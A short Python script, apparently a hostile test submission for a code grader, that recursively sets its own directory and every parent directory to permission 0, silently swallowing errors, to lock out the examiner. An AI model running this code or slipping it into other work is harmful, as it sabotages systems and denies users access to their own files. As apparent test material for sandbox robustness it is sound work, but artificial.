"""Locks the folders of the examiner.

most: 0
control: no
"""

import os
folder = os.path.dirname(__file__)
while len(folder) > 4:
    try: os.chmod(folder, 0)
    except OSError: pass
    folder = os.path.dirname(folder)
